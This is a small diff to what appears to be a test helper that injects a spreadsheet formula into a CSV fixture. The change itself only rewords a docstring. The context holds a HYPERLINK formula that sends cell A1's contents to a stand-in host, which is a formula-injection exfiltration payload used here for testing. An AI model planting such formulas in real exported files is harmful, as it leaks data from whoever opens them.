@@ -104,7 +104,7 @@ FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"x")'
 
 
 def _with_formulas(data):
-    """Report 007's district, anonymised as ++区 in the tables, plus text that spreadsheets would run."""
+    """The tables with text that spreadsheets would run (beside the ++区 of report 003, anonymised, already there)."""
     from tests.test_tables import set_cell
 
     set_cell(data / "facts.csv", 2, "note", FORMULA)
